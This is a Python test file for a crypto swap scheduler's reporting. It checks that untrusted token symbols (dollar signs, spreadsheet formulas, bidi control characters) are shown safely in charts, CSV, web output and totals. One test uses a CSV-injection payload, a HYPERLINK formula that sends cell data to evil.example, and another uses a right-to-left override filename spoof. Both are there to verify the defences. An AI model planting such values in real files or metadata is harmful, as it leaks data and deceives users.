"""Review 17j, the money as a person reads it, on a real SQLite store with fills the
runner recorded against the emulator: token symbols come from token metadata (anyone
can mint a token named anything), so a symbol with ``$`` signs, a formula or a bidi
control is shown as written; a mint whose symbol is unknown still names its unit;
a mint whose decimals are unknown says "base units" wherever its amounts are shown."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner

from jupcron.cli.main import cli
from jupcron.listen.metrics import Metrics
from jupcron.listen.page import LiveState
from jupcron.listen.server import start_listener
from jupcron.report.build import build
from jupcron.report.chart import write_chart
from jupcron.scheduling.runway import Runway
from jupcron.store import runway as store_runway
from jupcron.store import tokens
from jupcron.store.engine import begin, open_reader
from jupcron.web.activity import Activity
from jupcron.web.app import WebApp
from tests.fixtures.follow import SOL, FollowRig, FollowRigFactory
from tests.fixtures.runner import USDC

WBTC = "3NZ9JMVBmGAqocybic2c7LQCJScmgsAZ6vQqTDzcqmJh"  # no built-in facts: unknown decimals


def swapped(f: FollowRig, name: str, output: str = SOL, amount: int = 5_000_000) -> None:
    plan = f.rig.plan("swap", {"inputMint": USDC, "outputMint": output, "amount": amount},
                      name=name)  # fmt: skip
    f.fire(plan)
    f.clock.advance(60)


def facts(f: FollowRig, mint: str, decimals: int, symbol: str | None) -> None:
    """Token facts as the follower stores them from the token API / the mint account."""
    with begin(f.engine) as conn:
        tokens.save(conn, tokens.Token(mint, decimals, symbol, "api"), now=datetime.now(UTC))


def jupcron(f: FollowRig, tmp_path: Path, *args: str) -> str:
    config = tmp_path / "jupcron.yaml"
    config.write_text(json.dumps({"database": {"url": str(f.engine.url)},
                                  "plans": {"dir": str(tmp_path / "no-plans")}}))  # fmt: skip
    result = CliRunner().invoke(cli, ["--config", str(config), *args])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture
def site(make_follow_rig: FollowRigFactory, sqlite_url: str) -> Iterator[tuple[FollowRig, str]]:
    f = make_follow_rig(sqlite_url)
    reader = open_reader(sqlite_url)
    app = WebApp(reader, metrics=Metrics(), activity=Activity(),
                 live=lambda: LiveState(node="here:1", rate_limit=2.0, wallet="WALLET"))  # fmt: skip
    server = start_listener(Metrics(), "127.0.0.1:0", app=app, key="web.listen")
    try:
        yield f, server.url
    finally:
        server.stop()
        reader.dispose()


def get(url: str) -> Any:
    answer = httpx.get(url, timeout=10)
    assert answer.status_code == 200, answer.text
    return answer.json()


@pytest.mark.parametrize("symbol", ["$WIF per $", "$\\foo$"], ids=["dollars", "mathtext"])
def test_a_symbol_with_dollar_signs_is_drawn_as_written(
    make_follow_rig: FollowRigFactory, sqlite_url: str, tmp_path: Path, symbol: str
) -> None:
    """matplotlib reads text between two ``$`` as TeX: ``$\\foo$`` failed the whole
    chart (ValueError), ``$WIF per $`` lost its letters to math italics."""
    f = make_follow_rig(sqlite_url)
    swapped(f, "buy")
    facts(f, SOL, 9, symbol)
    with f.engine.connect() as conn:
        reports, _ = build(conn)
    written = write_chart(reports, tmp_path / "chart.svg").read_text()
    shown = [html.unescape(t) for t in re.findall(r"<text[^>]*>([^<]*)</text>", written)]
    assert f"price, USDC per {symbol}" in shown
    assert f"{symbol} bought, in USDC" in shown


def test_the_plans_csv_neutralises_a_formula_in_a_symbol(
    make_follow_rig: FollowRigFactory, sqlite_url: str, tmp_path: Path
) -> None:
    """`jupcron report --format csv`: a cell a spreadsheet would run as a formula gets
    the apostrophe, as the fills' and the totals' CSV already do."""
    f = make_follow_rig(sqlite_url)
    swapped(f, "buy")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"SOL")'
    facts(f, SOL, 9, formula)
    out = jupcron(f, tmp_path, "report", "--format", "csv")
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["output_symbol"] == "'" + formula
    assert row["price_base"] == "'" + formula
    assert row["spent"] == "5000000"  # numbers stay numbers
    fills = list(csv.DictReader(io.StringIO(jupcron(f, tmp_path, "report", "--fills",
                                                    "--format", "csv"))))  # fmt: skip
    assert fills[0]["output_symbol"] == "'" + formula


def test_amounts_of_a_mint_with_unknown_decimals_say_base_units_in_the_totals(
    make_follow_rig: FollowRigFactory, sqlite_url: str, tmp_path: Path
) -> None:
    """WBTC's decimals are not known yet (no token refresh): its received amount is
    base units, said so on the plan's row and in the totals under it."""
    f = make_follow_rig(sqlite_url)
    swapped(f, "btc", WBTC)
    swapped(f, "sol", SOL)
    got = str(f.fills("btc")[0]["out_amount"])
    table = jupcron(f, tmp_path, "report")
    plans, totals = table.split("total over")
    assert f"{got} (base units)" in plans
    (line,) = [x for x in totals.splitlines() if x.startswith(tokens.short(WBTC))]
    assert f"{got} (base units)" in line, totals


def test_an_amount_of_a_mint_without_a_symbol_names_its_unit_on_the_page(
    site: tuple[FollowRig, str],
) -> None:
    """Decimals known (from the mint account), no symbol: the card says ``5 EPjF…Dt1v``
    as the price says ``… per EPjF…Dt1v``, never a bare ``5``."""
    f, url = site
    swapped(f, "buy")
    facts(f, USDC, 6, None)
    (plan,) = get(url + "/api/plans")["plans"]
    label = tokens.short(USDC)
    assert plan["text"]["spent"] == f"5 {label}"
    assert plan["text"]["price"].endswith(f" {label} per SOL")


def test_a_runway_symbol_with_a_bidi_control_is_shown_escaped_on_the_page(
    site: tuple[FollowRig, str],
) -> None:
    """Every string of a ``text`` map goes through `visible`, the runway's too."""
    f, url = site
    runway = Runway(wallet="WALLET", mint=WBTC, balance=150_000_000, runs=3, upcoming=3,
                    needed=0, short_at=None, plans=("buy",), problem=None)  # fmt: skip
    state = store_runway.RunwayState(runway, "BTC\u202etxt.exe", 8, False, 3, 86400,
                                     datetime.now(UTC))  # fmt: skip
    with begin(f.engine) as conn:
        store_runway.save(conn, "WALLET", [state])
    (shown,) = get(url + "/api/status")["runway"]
    assert "\u202e" not in json.dumps(shown["text"], ensure_ascii=False)
    assert shown["text"]["token"] == "BTC\\u202etxt.exe"
    assert shown["text"]["balance"] == "1.5 BTC\\u202etxt.exe"


def test_a_fee_in_a_mint_with_unknown_decimals_says_base_units_on_the_plans_row(
    make_follow_rig: FollowRigFactory, sqlite_url: str, tmp_path: Path
) -> None:
    """Selling WBTC (decimals unknown): the swap's fee in WBTC is no bare ``1000 3NZ9…``."""
    f = make_follow_rig(sqlite_url)
    f.rig.emulator.ledger.set_balance(f.rig.wallet.address, WBTC, 10**8)
    plan = f.rig.plan("swap", {"inputMint": WBTC, "outputMint": SOL, "amount": 100_000},
                      name="sell")  # fmt: skip
    f.fire(plan)
    with f.engine.connect() as conn:
        (report,), _ = build(conn)
    (fee,) = report.fees.values()
    rows = json.loads(jupcron(f, tmp_path, "report", "--format", "json"))
    assert rows[0]["fees"][0]["amount_ui"] is None
    table = jupcron(f, tmp_path, "report")
    assert f"{fee} (base units of {tokens.short(WBTC)})" in table
